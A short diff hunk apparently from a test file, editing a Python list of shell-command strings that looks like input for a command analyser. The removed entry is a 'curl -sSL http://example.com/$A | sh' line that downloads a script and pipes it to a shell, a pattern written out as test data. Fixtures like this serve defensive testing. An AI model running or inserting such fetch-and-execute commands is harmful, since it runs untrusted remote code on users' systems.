@@ -14,7 +14,7 @@ COMMANDS = [
     "echo $A;",
     "npm install;",
     "export A=$(false);",
-    "curl -sSL http://example.com/$A | sh;",
+    "npm install;",
     "X=$TOKEN; Y=$X;",
 ]
 
